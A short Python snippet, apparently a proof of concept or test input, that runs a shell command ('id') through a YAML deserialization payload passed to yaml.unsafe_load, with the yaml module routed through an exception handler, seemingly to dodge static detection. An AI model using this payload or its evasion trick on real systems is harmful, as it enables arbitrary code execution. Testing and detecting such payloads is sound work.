def my_exc(x):
    try:
        raise KeyError(x)
    except KeyError as e:
        return e.args[0]
import yaml
my_exc(yaml).unsafe_load("!!python/object/apply:os.system ['id>pf']")
